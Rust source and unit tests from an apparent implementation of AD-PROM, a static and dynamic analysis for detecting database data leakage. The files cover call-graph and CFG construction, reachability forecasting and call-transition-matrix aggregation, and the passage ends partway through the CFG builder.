    /// Observation label of every library call site (DDG-labeled sites get
    /// `name_Q<bid>`; `bid` is the global block id of the call's CFG node).
    pub site_labels: HashMap<CallSiteId, String>,
    /// Per-function CTMs keyed by function name.
    pub ctms: HashMap<String, Ctm>,
    /// The aggregated program CTM.
    pub pctm: Ctm,
    /// Step timings.
    pub timings: AnalysisTimings,
}

impl Analysis {
    /// Observation name for a call site; falls back to the raw callee name
    /// for user calls (which never reach the collector).
    pub fn label_of(&self, site: CallSiteId) -> Option<&str> {
        self.site_labels.get(&site).map(String::as_str)
    }

    /// Distinct observation labels (the HMM alphabet candidates from the
    /// static phase), sorted.
    pub fn observation_labels(&self) -> Vec<String> {
        let mut labels: Vec<String> = self
            .pctm
            .labels()
            .iter()
            .filter(|l| !l.is_virtual())
            .map(|l| l.name().to_string())
            .collect();
        labels.sort();
        labels.dedup();
        labels
    }
}

/// Runs the full static analysis of a program.
pub fn analyze(prog: &Program) -> Analysis {
    // --- step 1: call graph, CFGs, DDG, site labels ---
    let t0 = Instant::now();
    let cg = CallGraph::build(prog);
    let mut cfgs = Vec::with_capacity(prog.functions.len());
    for f in &prog.functions {
        let skip = cg.recursive_callees(&f.name);
        cfgs.push(build_cfg(f, &skip));
    }
    let ddg = analyze_ddg(prog);
    let site_labels = label_sites(&cfgs, &ddg);
    let build_cfg_time = t0.elapsed();

    // --- step 2: probability estimation (forecast + CTMs) ---
    let t1 = Instant::now();
    let forecasts: Vec<Forecast> = cfgs.iter().map(forecast).collect();
    let mut ctms = HashMap::with_capacity(cfgs.len());
    for (cfg, fore) in cfgs.iter().zip(&forecasts) {
        ctms.insert(cfg.func.clone(), build_ctm(cfg, fore, &site_labels));
    }
    let probabilities_time = t1.elapsed();

    // --- step 3: aggregation ---
    let t2 = Instant::now();
    let pctm = aggregate_program(&cg, &ctms);
    let aggregation_time = t2.elapsed();

    Analysis {
        cg,
        cfgs,
        forecasts,
        ddg,
        site_labels,
        ctms,
        pctm,
        timings: AnalysisTimings {
            build_cfg: build_cfg_time,
            probabilities: probabilities_time,
            aggregation: aggregation_time,
        },
    }
}

/// Assigns observation labels to every library call site. Block ids are
/// global across the program (function CFGs numbered in declaration order),
/// so an inserted statement shifts the ids after it — which is exactly how
/// AD-PROM distinguishes a reused `printf` from the original one (Fig. 9).
fn label_sites(cfgs: &[Cfg], ddg: &Ddg) -> HashMap<CallSiteId, String> {
    let mut labels = HashMap::new();
    let mut offset = 0usize;
    for cfg in cfgs {
        for node in cfg.call_nodes() {
            let call = node.call.as_ref().expect("call node has a call");
            if let Callee::Library(lc) = &call.callee {
                let bid = offset + node.id;
                let name = if ddg.is_labeled(call.site) {
                    format!("{}_Q{}", lc.name(), bid)
                } else {
                    lc.name().to_string()
                };
                labels.insert(call.site, name);
            }
        }
        offset += cfg.nodes.len();
    }
    labels
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::ctm::CallLabel;
    use adprom_lang::parse_program;

    const FIG1: &str = r#"
        fn main() {
            let query = "SELECT * FROM items WHERE ID = 10";
            let result = PQexec(conn, query);
            let rows = PQntuples(result);
            for (let r = 0; r < rows; r = r + 1) {
                printf("%s", PQgetvalue(result, r, 0));
            }
        }
    "#;

    #[test]
    fn fig1_analysis_labels_leaking_printf() {
        let prog = parse_program(FIG1).unwrap();
        let analysis = analyze(&prog);
        let labeled: Vec<&str> = analysis
            .site_labels
            .values()
            .filter(|l| l.contains("_Q"))
            .map(String::as_str)
            .collect();
        assert_eq!(labeled.len(), 1);
        assert!(labeled[0].starts_with("printf_Q"));
        // The labeled printf appears in the pCTM alphabet.
        let obs = analysis.observation_labels();
        assert!(obs.iter().any(|l| l.starts_with("printf_Q")), "{obs:?}");
    }

    #[test]
    fn pctm_properties_after_full_analysis() {
        let prog = parse_program(
            r#"
            fn main() {
                printf("menu");
                let c = scanf();
                if (c == 1) { list(); } else { puts("bye"); }
            }
            fn list() {
                let r = PQexec(conn, "SELECT * FROM t");
                let n = PQntuples(r);
                for (let i = 0; i < n; i = i + 1) {
                    printf("%s", PQgetvalue(r, i, 0));
                }
            }
            "#,
        )
        .unwrap();
        let analysis = analyze(&prog);
        let pctm = &analysis.pctm;
        assert!((pctm.entry_row_sum() - 1.0).abs() < 1e-9);
        assert!((pctm.exit_col_sum() - 1.0).abs() < 1e-9);
        for l in pctm.labels().to_vec() {
            if !l.is_virtual() {
                assert!(pctm.flow_imbalance(&l) < 1e-9, "at {l}");
            }
        }
        assert!(pctm.user_labels().is_empty());
    }

    #[test]
    fn block_ids_shift_when_code_inserted() {
        // Fig. 9: reusing a print in a *different block* must yield a
        // different label.
        let original = r#"
            fn main() {
                let v = PQgetvalue(r, 0, 0);
                if (x) { printf("%s", v); }
                printf("static");
            }
        "#;
        let modified = r#"
            fn main() {
                let v = PQgetvalue(r, 0, 0);
                if (x) { printf("%s", v); } else { printf("%s", v); }
                printf("static");
            }
        "#;
        let a1 = analyze(&parse_program(original).unwrap());
        let a2 = analyze(&parse_program(modified).unwrap());
        let labels1: Vec<String> = a1
            .site_labels
            .values()
            .filter(|l| l.contains("_Q"))
            .cloned()
            .collect();
        let labels2: Vec<String> = a2
            .site_labels
            .values()
            .filter(|l| l.contains("_Q"))
            .cloned()
            .collect();
        assert_eq!(labels1.len(), 1);
        assert_eq!(labels2.len(), 2);
        // The new site's label differs from the original's.
        let new_labels: Vec<&String> = labels2.iter().filter(|l| !labels1.contains(l)).collect();
        assert!(!new_labels.is_empty());
    }

    #[test]
    fn timings_are_populated() {
        let prog = parse_program(FIG1).unwrap();
        let analysis = analyze(&prog);
        // Durations exist (may be tiny but the fields are real measurements).
        assert!(analysis.timings.build_cfg.as_nanos() > 0);
        assert!(analysis.timings.probabilities.as_nanos() > 0);
        assert!(analysis.timings.aggregation.as_nanos() > 0);
    }

    #[test]
    fn entry_label_present_in_pctm() {
        let prog = parse_program("fn main() { puts(\"x\"); }").unwrap();
        let analysis = analyze(&prog);
        assert!(analysis.pctm.index_of(&CallLabel::Entry).is_some());
        assert!(analysis.pctm.index_of(&CallLabel::Exit).is_some());
    }
}
