//! Probability forecast (§IV-C2, equations 1–2).
//!
//! For each function's CFG the forecast approximates:
//!
//! * the **conditional probability** `P^c_{xy} = 1 / outdeg(x)` for each
//!   edge `x → y` (eq. 1), and
//! * the **reachability probability** `P^r_y = Σ_{x ∈ parents(y)} P^r_x ·
//!   P^c_{xy}` (eq. 2), computed in topological order from the entry ε
//!   (which has reachability 1).

use crate::cfg::{Cfg, NodeId, ENTRY};

/// Forecast output for one CFG.
#[derive(Debug, Clone)]
pub struct Forecast {
    /// `reach[n]` = reachability probability of node `n` (eq. 2).
    pub reach: Vec<f64>,
    /// `cond[x]` = conditional probability of each outgoing edge of `x`
    /// (uniform over successors, eq. 1). Parallel to `cfg.succ[x]`.
    pub cond: Vec<f64>,
}

impl Forecast {
    /// Conditional probability of the edge `x → y`; 0 if no such edge.
    pub fn cond_prob(&self, cfg: &Cfg, x: NodeId, y: NodeId) -> f64 {
        if cfg.succ[x].contains(&y) {
            self.cond[x]
        } else {
            0.0
        }
    }
}

/// Computes the forecast for a CFG.
pub fn forecast(cfg: &Cfg) -> Forecast {
    let n = cfg.nodes.len();
    let cond: Vec<f64> = (0..n)
        .map(|x| {
            let d = cfg.out_degree(x);
            if d == 0 {
                0.0
            } else {
                1.0 / d as f64
            }
        })
        .collect();

    let mut reach = vec![0.0f64; n];
    reach[ENTRY] = 1.0;
    for v in cfg.topo_order() {
        let r = reach[v];
        if r == 0.0 {
            continue;
        }
        let p = cond[v];
        for &w in &cfg.succ[v] {
            reach[w] += r * p;
        }
    }
    Forecast { reach, cond }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::cfg::{build_cfg, EXIT};
    use adprom_lang::parse_program;

    fn forecast_of(src: &str) -> (Cfg, Forecast) {
        let prog = parse_program(src).unwrap();
        let cfg = build_cfg(prog.entry().unwrap(), &[]);
        let f = forecast(&cfg);
        (cfg, f)
    }

    #[test]
    fn straight_line_reaches_exit_with_one() {
        let (_, f) = forecast_of("fn main() { puts(\"a\"); puts(\"b\"); }");
        assert!((f.reach[EXIT] - 1.0).abs() < 1e-12);
    }

    #[test]
    fn if_halves_reachability() {
        let (cfg, f) = forecast_of("fn main() { if (x) { puts(\"a\"); } else { puts(\"b\"); } }");
        // Each branch call node has reachability 0.5.
        for node in cfg.call_nodes() {
            assert!((f.reach[node.id] - 0.5).abs() < 1e-12, "node {}", node.id);
        }
        // Flow rejoins: exit reachability is 1.
        assert!((f.reach[EXIT] - 1.0).abs() < 1e-12);
    }

    #[test]
    fn nested_branches_quarter_reachability() {
        let (cfg, f) = forecast_of("fn main() { if (x) { if (y) { puts(\"deep\"); } } }");
        let call = cfg.call_nodes().next().unwrap();
        assert!((f.reach[call.id] - 0.25).abs() < 1e-12);
        assert!((f.reach[EXIT] - 1.0).abs() < 1e-12);
    }

    #[test]
    fn while_body_has_half_reachability() {
        let (cfg, f) = forecast_of("fn main() { while (c) { puts(\"x\"); } }");
        let call = cfg.call_nodes().next().unwrap();
        assert!((f.reach[call.id] - 0.5).abs() < 1e-12);
        assert!((f.reach[EXIT] - 1.0).abs() < 1e-12);
    }

    #[test]
    fn exit_reachability_is_always_one() {
        // Mass conservation: all paths end at ε′ whatever the shape.
        for src in [
            "fn main() { for (let i = 0; i < 9; i = i + 1) { if (i % 2 == 0) { puts(\"e\"); } } }",
            "fn main() { if (a) { return; } while (b) { if (c) { break; } puts(\"x\"); } }",
            "fn main() { }",
        ] {
            let (_, f) = forecast_of(src);
            assert!((f.reach[EXIT] - 1.0).abs() < 1e-9, "src: {src}");
        }
    }

    #[test]
    fn conditional_probability_is_uniform() {
        let (cfg, f) = forecast_of("fn main() { if (x) { puts(\"a\"); } else { puts(\"b\"); } }");
        let branch = (0..cfg.nodes.len())
            .find(|&i| cfg.out_degree(i) == 2)
            .unwrap();
        assert!((f.cond[branch] - 0.5).abs() < 1e-12);
        let first_succ = cfg.succ[branch][0];
        assert!((f.cond_prob(&cfg, branch, first_succ) - 0.5).abs() < 1e-12);
        assert_eq!(f.cond_prob(&cfg, branch, branch), 0.0);
    }
}
