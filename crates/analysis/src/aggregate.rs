//! CTM aggregation (§IV-C3, equations 4–10): in-lines callee CTMs into
//! caller CTMs in reverse topological order of the call graph, producing the
//! program call transition matrix (pCTM).
//!
//! The four cases of Fig. 6:
//!
//! 1. a caller call preceding the callee: `P_m[a][k] += P_m[a][f] ·
//!    P_f[ε][k]` (eqs. 4–5);
//! 2. a caller call following the callee: `P_m[k][b] += P_f[k][ε′] ·
//!    P_m[f][b]` (eqs. 6–7);
//! 3. a call pair inside the callee: `P_m[k][l] += (Σ_a P_m[a][f]) ·
//!    P_f[k][l]` (eqs. 8–9 — the paper's trailing `P_{f,m_i}` factor is a
//!    typo: keeping it would break the flow-conservation property the paper
//!    itself states for the pCTM, so we drop it);
//! 4. a call-free path through the callee: `P_m[a][b] += P_m[a][f] ·
//!    P_f[ε][ε′] · P_m[f][b]` (eq. 10, applied for any callee with
//!    pass-through mass, which subsumes the "callee makes no calls" case).
//!
//! After in-lining, the callee's row and column are removed. The final
//! matrix for `main` is the pCTM; its invariants (ε row sums to 1, ε′
//! column sums to 1, per-call flow conservation) are checked by tests.

use crate::callgraph::CallGraph;
use crate::ctm::{CallLabel, Ctm};
use std::collections::HashMap;

/// In-lines `callee_ctm` (already fully aggregated) into `caller` at the
/// user label `f`.
///
/// The computation works in *expectation space*: a pCTM entry is the
/// expected number of times the pair occurs per program run. With
/// `α` = expected invocations of `f`, `e_k`/`x_k` the callee's per-
/// invocation entry/exit flows, `p0` its call-free (silent) mass, and `q`
/// the conditional successor distribution after an invocation
/// (`q_y = P_m[f][y]/α`, including the self-successor `q_f` when two `f`
/// call sites are adjacent), the elimination sums the geometric series of
/// consecutive *silent* invocations, `r = 1 / (1 − q_f·p0)`:
///
/// * caller → first call:      `P[x][k] += I_x · r · e_k`          (eqs. 4–5)
/// * pairs inside f:           `P[k][l] += α · P^f[k][l]`          (eqs. 8–9,
///   the paper's trailing `P_{f,m_i}` factor is a typo — keeping it breaks
///   the flow-conservation property the paper itself states)
/// * adjacent invocations:     `P[k][l] += α · x_k · q_f · r · e_l`
/// * last call → caller:       `P[k][y] += α · x_k · r · q_y`      (eqs. 6–7)
/// * silent pass-through:      `P[x][y] += I_x · p0 · r · q_y`     (eq. 10,
///   with the conditional `q_y` replacing the paper's absolute
///   `P_m[f][b]`, which double-counts invocation mass when α ≠ 1)
///
/// Flow is conserved exactly; for callees invoked from several merged
/// sites the label-level representation remains an approximation of
/// higher-order correlations (see `tests/montecarlo.rs`).
pub fn inline_callee(caller: &mut Ctm, f: &CallLabel, callee_ctm: &Ctm) {
    let Some(fi) = caller.index_of(f) else {
        return;
    };

    // Snapshot the caller's flows at f.
    let caller_labels: Vec<CallLabel> = caller.labels().to_vec();
    let incoming: Vec<(CallLabel, f64)> = caller_labels
        .iter()
        .enumerate()
        .filter(|(i, _)| *i != fi)
        .map(|(i, l)| (l.clone(), caller.at(i, fi)))
        .filter(|(_, p)| *p > 0.0)
        .collect();
    let outgoing: Vec<(CallLabel, f64)> = caller_labels
        .iter()
        .enumerate()
        .filter(|(j, _)| *j != fi)
        .map(|(j, l)| (l.clone(), caller.at(fi, j)))
        .filter(|(_, p)| *p > 0.0)
        .collect();
    let self_mass = caller.at(fi, fi);
    let alpha: f64 = incoming.iter().map(|(_, p)| p).sum::<f64>() + self_mass;
    if alpha <= 0.0 {
        caller.remove(f);
        return;
    }

    let callee_labels: Vec<CallLabel> = callee_ctm.labels().to_vec();
    let p0 = callee_ctm.get(&CallLabel::Entry, &CallLabel::Exit);
    let q_f = self_mass / alpha;
    let denom = 1.0 - q_f * p0;
    // Degenerate: f always silent and always followed by f — an infinite
    // silent loop carries no observable mass.
    let r = if denom > 1e-12 { 1.0 / denom } else { 0.0 };

    // Silent pass-through: x → (silent f)+ → y.
    if p0 > 0.0 {
        for (x, ix) in &incoming {
            for (y, oy) in &outgoing {
                let q_y = oy / alpha;
                caller.add(x.clone(), y.clone(), ix * p0 * r * q_y);
            }
        }
    }

    for k in &callee_labels {
        if k.is_virtual() {
            continue;
        }
        let e_k = callee_ctm.get(&CallLabel::Entry, k);
        let x_k = callee_ctm.get(k, &CallLabel::Exit);
        // Caller → f's first calls (through any number of silent
        // invocations first).
        if e_k > 0.0 {
            for (x, ix) in &incoming {
                caller.add(x.clone(), k.clone(), ix * r * e_k);
            }
        }
        if x_k > 0.0 {
            // f's last calls → the caller's successors.
            for (y, oy) in &outgoing {
                let q_y = oy / alpha;
                caller.add(k.clone(), y.clone(), alpha * x_k * r * q_y);
            }
            // f's last calls → the next invocation's first calls.
            if q_f > 0.0 {
                for l in &callee_labels {
                    if l.is_virtual() {
                        continue;
                    }
                    let e_l = callee_ctm.get(&CallLabel::Entry, l);
                    if e_l > 0.0 {
                        caller.add(k.clone(), l.clone(), alpha * x_k * q_f * r * e_l);
                    }
                }
            }
        }
        // Pairs inside one invocation.
        for l in &callee_labels {
            if l.is_virtual() {
                continue;
            }
            let p_kl = callee_ctm.get(k, l);
            if p_kl > 0.0 {
                caller.add(k.clone(), l.clone(), alpha * p_kl);
            }
        }
    }

    caller.remove(f);
}

/// Aggregates all function CTMs into the pCTM of `main`.
///
/// `ctms` maps function names to their standalone CTMs (from
/// [`build_ctm`](crate::ctm::build_ctm)). Functions are processed callees
/// first per the call graph's reverse topological order; user labels whose
/// target has no CTM (undefined functions) are treated as transparent.
pub fn aggregate_program(cg: &CallGraph, ctms: &HashMap<String, Ctm>) -> Ctm {
    let mut done: HashMap<String, Ctm> = HashMap::new();
    for fid in cg.reverse_topological() {
        let fname = &cg.functions[fid];
        let Some(base) = ctms.get(fname) else {
            continue;
        };
        let mut ctm = base.clone();
        // Inline every user label. Callees processed earlier are in `done`;
        // same-SCC callees were already skipped at CFG construction, and
        // unknown callees are dropped as transparent no-ops.
        for label in ctm.user_labels() {
            let CallLabel::User(callee_name) = &label else {
                unreachable!("user_labels returns only User labels");
            };
            match done.get(callee_name) {
                Some(callee_ctm) => {
                    let callee_ctm = callee_ctm.clone();
                    inline_callee(&mut ctm, &label, &callee_ctm);
                }
                None => {
                    // Transparent: behave as a callee whose ε→ε′ mass is 1.
                    let mut identity = Ctm::new();
                    identity.set(CallLabel::Entry, CallLabel::Exit, 1.0);
                    inline_callee(&mut ctm, &label, &identity);
                }
            }
        }
        done.insert(fname.clone(), ctm);
    }
    done.remove("main").unwrap_or_default()
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::cfg::build_cfg;
    use crate::ctm::build_ctm;
    use crate::forecast::forecast;
    use adprom_lang::{parse_program, Program};

    fn pctm_of(src: &str) -> Ctm {
        let prog: Program = parse_program(src).unwrap();
        let cg = CallGraph::build(&prog);
        let mut ctms = HashMap::new();
        for f in &prog.functions {
            let skip = cg.recursive_callees(&f.name);
            let cfg = build_cfg(f, &skip);
            let fore = forecast(&cfg);
            ctms.insert(f.name.clone(), build_ctm(&cfg, &fore, &HashMap::new()));
        }
        aggregate_program(&cg, &ctms)
    }

    fn lib(name: &str) -> CallLabel {
        CallLabel::Lib(name.to_string())
    }

    fn assert_pctm_properties(ctm: &Ctm) {
        assert!(
            (ctm.entry_row_sum() - 1.0).abs() < 1e-9,
            "entry row sums to 1, got {}",
            ctm.entry_row_sum()
        );
        assert!(
            (ctm.exit_col_sum() - 1.0).abs() < 1e-9,
            "exit col sums to 1, got {}",
            ctm.exit_col_sum()
        );
        for l in ctm.labels().to_vec() {
            if !l.is_virtual() {
                assert!(
                    ctm.flow_imbalance(&l) < 1e-9,
                    "flow conserved at {l}: imbalance {}",
                    ctm.flow_imbalance(&l)
                );
            }
        }
    }

    #[test]
    fn inline_simple_callee() {
        // main: puts; helper; printf — helper: putchar
        let ctm = pctm_of(
            "fn main() { puts(\"a\"); helper(); printf(\"b\"); }\nfn helper() { putchar(1); }",
        );
        assert!(ctm.user_labels().is_empty(), "no user labels remain");
        assert!((ctm.get(&lib("puts"), &lib("putchar")) - 1.0).abs() < 1e-12);
        assert!((ctm.get(&lib("putchar"), &lib("printf")) - 1.0).abs() < 1e-12);
        assert_eq!(ctm.get(&lib("puts"), &lib("printf")), 0.0);
        assert_pctm_properties(&ctm);
    }

    #[test]
    fn inline_empty_callee_is_transparent() {
        // Case 4: helper makes no calls, so puts→printf survives through it.
        let ctm = pctm_of(
            "fn main() { puts(\"a\"); helper(); printf(\"b\"); }\nfn helper() { let x = 1; }",
        );
        assert!((ctm.get(&lib("puts"), &lib("printf")) - 1.0).abs() < 1e-12);
        assert_pctm_properties(&ctm);
    }

    #[test]
    fn callee_with_branch_splits_mass() {
        let ctm = pctm_of(
            r#"
            fn main() { puts("pre"); helper(); puts("post"); }
            fn helper() { if (x) { printf("t"); } }
            "#,
        );
        // helper prints with probability 1/2, passes through with 1/2.
        assert!((ctm.get(&lib("puts"), &lib("printf")) - 0.5).abs() < 1e-12);
        assert!((ctm.get(&lib("printf"), &lib("puts")) - 0.5).abs() < 1e-12);
        assert!((ctm.get(&lib("puts"), &lib("puts")) - 0.5).abs() < 1e-12);
        assert_pctm_properties(&ctm);
    }

    #[test]
    fn two_level_inlining() {
        let ctm = pctm_of(
            r#"
            fn main() { a(); }
            fn a() { puts("in a"); b(); }
            fn b() { printf("in b"); }
            "#,
        );
        assert!((ctm.get(&CallLabel::Entry, &lib("puts")) - 1.0).abs() < 1e-12);
        assert!((ctm.get(&lib("puts"), &lib("printf")) - 1.0).abs() < 1e-12);
        assert!((ctm.get(&lib("printf"), &CallLabel::Exit) - 1.0).abs() < 1e-12);
        assert_pctm_properties(&ctm);
    }

    #[test]
    fn callee_called_from_two_sites_accumulates() {
        let ctm = pctm_of(
            r#"
            fn main() {
                if (x) { puts("l"); helper(); } else { printf("r"); helper(); }
            }
            fn helper() { putchar(1); }
            "#,
        );
        // putchar reached from both branches with 1/2 each.
        assert!((ctm.get(&lib("puts"), &lib("putchar")) - 0.5).abs() < 1e-12);
        assert!((ctm.get(&lib("printf"), &lib("putchar")) - 0.5).abs() < 1e-12);
        assert!((ctm.get(&lib("putchar"), &CallLabel::Exit) - 1.0).abs() < 1e-12);
        assert_pctm_properties(&ctm);
    }

    #[test]
    fn conditionally_called_callee_conserves_flow() {
        // f is invoked with probability 1/2 (α < 1): this is the case where
        // the paper's eq. 10 as printed loses mass. With the α correction,
        // the invariants must still hold, including a call-free pass-through
        // path inside f.
        let ctm = pctm_of(
            r#"
            fn main() {
                puts("always");
                if (x) { f(); }
                printf("after");
            }
            fn f() {
                if (y) { putchar(1); }
            }
            "#,
        );
        assert_pctm_properties(&ctm);
        // puts → printf survives both via the untaken branch (1/2) and via
        // f's silent path (1/2 · 1/2): total 3/4.
        assert!((ctm.get(&lib("puts"), &lib("printf")) - 0.75).abs() < 1e-12);
        assert!((ctm.get(&lib("puts"), &lib("putchar")) - 0.25).abs() < 1e-12);
        assert!((ctm.get(&lib("putchar"), &lib("printf")) - 0.25).abs() < 1e-12);
    }

    #[test]
    fn recursion_is_transparent() {
        let ctm = pctm_of(
            r#"
            fn main() { puts("pre"); rec(3); puts("post"); }
            fn rec(n) { if (n > 0) { printf("step"); rec(n - 1); } }
            "#,
        );
        // rec's self-call was skipped; its printf still shows up.
        assert!(ctm.get(&lib("puts"), &lib("printf")) > 0.0);
        assert_pctm_properties(&ctm);
    }

    #[test]
    fn paper_style_main_f_example() {
        // Structure of the paper's Fig. 3: main prints or queries and calls
        // f(); f() prints (one labeled). CTM invariants and the qualitative
        // entries of Tables I–II are checked.
        let ctm = pctm_of(
            r#"
            fn main() {
                if (a) {
                    printf("menu");
                } else {
                    printf("query path");
                    PQexec(c, "SELECT * FROM t");
                    f(1);
                }
            }
            fn f(n) {
                if (n > 1) { printf("big"); } else { puts("small"); }
            }
            "#,
        );
        // PQexec is never first: some printf precedes it.
        assert_eq!(ctm.get(&CallLabel::Entry, &lib("PQexec")), 0.0);
        // After PQexec control flows into f's calls only.
        assert!(ctm.get(&lib("PQexec"), &lib("printf")) > 0.0);
        assert!(ctm.get(&lib("PQexec"), &lib("puts")) > 0.0);
        assert_eq!(ctm.get(&lib("PQexec"), &CallLabel::Exit), 0.0);
        assert_pctm_properties(&ctm);
    }

    #[test]
    fn deep_chain_properties_hold() {
        let ctm = pctm_of(
            r#"
            fn main() { l1(); }
            fn l1() { if (a) { puts("1"); } l2(); }
            fn l2() { while (b) { printf("2"); } l3(); }
            fn l3() { if (c) { putchar(3); } else { fputs("3", f); } }
            "#,
        );
        assert!(ctm.user_labels().is_empty());
        assert_pctm_properties(&ctm);
    }
}
