//! # adprom-analysis
//!
//! The static half of AD-PROM (ICDE 2020): control-flow and data-flow
//! analysis of application programs, the probability forecast, per-function
//! Call Transition Matrices, and their aggregation into the program CTM
//! (pCTM) that initializes the HMM.
//!
//! Pipeline (§IV-C of the paper):
//!
//! 1. [`callgraph`] — call graph, SCCs, aggregation order;
//! 2. [`cfg`](mod@cfg) — per-function CFGs (blocks split at call sites, loop back
//!    edges redirected so each node is visited once);
//! 3. [`ddg`] — interprocedural taint from DB reads to output statements;
//!    tainted sinks get labeled `name_Q<bid>`;
//! 4. [`forecast`](mod@forecast) — conditional and reachability probabilities (eqs. 1–2);
//! 5. [`ctm`] — transition probabilities between call pairs (eq. 3);
//! 6. [`aggregate`] — in-lining callee CTMs into callers (eqs. 4–10) to
//!    produce the pCTM.
//!
//! [`analyzer::analyze`] runs the whole pipeline and reports per-step
//! timings (Table VIII).

#![warn(missing_docs)]

pub mod aggregate;
pub mod analyzer;
pub mod callgraph;
pub mod cfg;
pub mod ctm;
pub mod ddg;
pub mod forecast;

pub use aggregate::{aggregate_program, inline_callee};
pub use analyzer::{analyze, Analysis, AnalysisTimings};
pub use callgraph::CallGraph;
pub use cfg::{build_cfg, CallRef, Cfg, Node, NodeId, ENTRY, EXIT};
pub use ctm::{build_ctm, CallLabel, Ctm};
pub use ddg::{analyze_ddg, Ddg};
pub use forecast::{forecast, Forecast};
