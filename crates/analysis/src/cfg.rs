//! Control-flow graph construction (§IV-A of the paper).
//!
//! Each function lowers to a directed graph whose nodes are code blocks and
//! whose edges are control flow. Two conventions matter for the probability
//! forecast:
//!
//! * **At most one call per node.** Blocks are split at call sites (calls
//!   inside one expression are linearized in evaluation order), which keeps
//!   the path product of eq. 3 well-defined.
//! * **The graph is acyclic.** Per §IV-C1 the static analysis "does not
//!   handle loops and recursions as each node is visited once": loop back
//!   edges are redirected to the loop exit, so a `while` body is modelled as
//!   executing at most once; iteration counts are learned dynamically by the
//!   HMM.
//!
//! Node 0 is the virtual entry ε and node 1 the virtual exit ε′.

use adprom_lang::{CallSiteId, Callee, Expr, Function, Stmt};

/// Index of a CFG node.
pub type NodeId = usize;

/// Virtual entry node id (ε).
pub const ENTRY: NodeId = 0;
/// Virtual exit node id (ε′).
pub const EXIT: NodeId = 1;

/// A call occurrence inside a node.
#[derive(Debug, Clone, PartialEq)]
pub struct CallRef {
    /// The program-wide call-site id.
    pub site: CallSiteId,
    /// Library or user callee.
    pub callee: Callee,
}

/// One CFG node (a code block making at most one call).
#[derive(Debug, Clone, PartialEq)]
pub struct Node {
    /// Node id == index into [`Cfg::nodes`].
    pub id: NodeId,
    /// The call made by this block, if any. Entry/exit make none.
    pub call: Option<CallRef>,
}

/// The control-flow graph of one function.
#[derive(Debug, Clone, PartialEq)]
pub struct Cfg {
    /// Function name.
    pub func: String,
    /// Nodes; index 0 is ε, index 1 is ε′.
    pub nodes: Vec<Node>,
    /// Successor lists, parallel to `nodes`.
    pub succ: Vec<Vec<NodeId>>,
}

impl Cfg {
    /// Predecessor lists (computed on demand).
    pub fn predecessors(&self) -> Vec<Vec<NodeId>> {
        let mut pred = vec![Vec::new(); self.nodes.len()];
        for (from, succs) in self.succ.iter().enumerate() {
            for &to in succs {
                pred[to].push(from);
            }
        }
        pred
    }

    /// Out-degree of a node.
    pub fn out_degree(&self, n: NodeId) -> usize {
        self.succ[n].len()
    }

    /// Topological order over the (acyclic) graph, entry first. Unreachable
    /// nodes appear after reachable ones; the forecast gives them zero
    /// reachability.
    pub fn topo_order(&self) -> Vec<NodeId> {
        let n = self.nodes.len();
        let mut indegree = vec![0usize; n];
        for succs in &self.succ {
            for &t in succs {
                indegree[t] += 1;
            }
        }
        let mut queue: Vec<NodeId> = (0..n).filter(|&i| indegree[i] == 0).collect();
        let mut order = Vec::with_capacity(n);
        while let Some(v) = queue.pop() {
            order.push(v);
            for &w in &self.succ[v] {
                indegree[w] -= 1;
                if indegree[w] == 0 {
                    queue.push(w);
                }
            }
        }
        debug_assert_eq!(order.len(), n, "CFG must be acyclic");
        order
    }

    /// The call nodes (those making a call), in node order.
    pub fn call_nodes(&self) -> impl Iterator<Item = &Node> {
        self.nodes.iter().filter(|n| n.call.is_some())
    }
}

/// Builds the CFG of a function.
///
/// `skip_recursive_callees` lists user functions whose call sites should not
/// produce call nodes (recursion broken at static-analysis time; see the
/// call-graph module).
pub fn build_cfg(func: &Function, skip_recursive_callees: &[String]) -> Cfg {
    let mut b = CfgBuilder {
        cfg: Cfg {
            func: func.name.clone(),
            nodes: vec![
                Node {
                    id: ENTRY,
                    call: None,
                },
                Node {
                    id: EXIT,
                    call: None,
                },
            ],
            succ: vec![Vec::new(), Vec::new()],
        },
        skip: skip_recursive_callees,
    };
    let end = b.lower_block(&func.body, ENTRY, &mut Vec::new());
    if let Some(end) = end {
        b.edge(end, EXIT);
    }
    b.cfg
}

struct CfgBuilder<'a> {
    cfg: Cfg,
    skip: &'a [String],
}

impl CfgBuilder<'_> {
    fn new_node(&mut self, call: Option<CallRef>) -> NodeId {
        let id = self.cfg.nodes.len();
        self.cfg.nodes.push(Node { id, call });
        self.cfg.succ.push(Vec::new());
        id
    }

    fn edge(&mut self, from: NodeId, to: NodeId) {
        if !self.cfg.succ[from].contains(&to) {
            self.cfg.succ[from].push(to);
        }
    }

    /// Lowers the calls inside `expr` (evaluation order: arguments before
    /// the call itself), chaining nodes after `cur`. Returns the new tail.
    fn lower_expr_calls(&mut self, expr: &Expr, mut cur: NodeId) -> NodeId {
        match expr {
            Expr::Binary(_, a, b) | Expr::Index(a, b) => {
                cur = self.lower_expr_calls(a, cur);
                self.lower_expr_calls(b, cur)
            }
            Expr::Unary(_, a) => self.lower_expr_calls(a, cur),
            Expr::Call {
                site, callee, args, ..
            } => {
                for a in args {
                    cur = self.lower_expr_calls(a, cur);
                }
                let skipped = matches!(callee, Callee::User(name) if self.skip.contains(name));
                if skipped {
                    cur
                } else {
                    let node = self.new_node(Some(CallRef {
                        site: *site,
                        callee: callee.clone(),
                    }));
                    self.edge(cur, node);
                    node
                }
            }
            _ => cur,
        }
    }

    /// Lowers a statement list starting after node `cur`. Returns the tail
    /// node of the fallthrough path, or `None` if control cannot fall
    /// through (return/break/continue). `loop_exits` is the stack of
    /// innermost-loop exit nodes for break/continue redirection.
    fn lower_block(
        &mut self,
        stmts: &[Stmt],
        mut cur: NodeId,
        loop_exits: &mut Vec<NodeId>,
    ) -> Option<NodeId> {
        for stmt in stmts {
            match stmt {
                Stmt::Let(_, e) | Stmt::Assign(_, e) | Stmt::Expr(e) => {
                    cur = self.lower_expr_calls(e, cur);
                }
                Stmt::Return(e) => {
                    if let Some(e) = e {
                        cur = self.lower_expr_calls(e, cur);
                    }
                    self.edge(cur, EXIT);
                    return None;
                }
                Stmt::Break | Stmt::Continue => {
                    // Back edges are redirected to the loop exit (§IV-C1);
                    // `continue` statically behaves the same way.
                    if let Some(&exit) = loop_exits.last() {
                        self.edge(cur, exit);
                    } else {
                        self.edge(cur, EXIT);
                    }
                    return None;
                }
                Stmt::If {
                    cond,
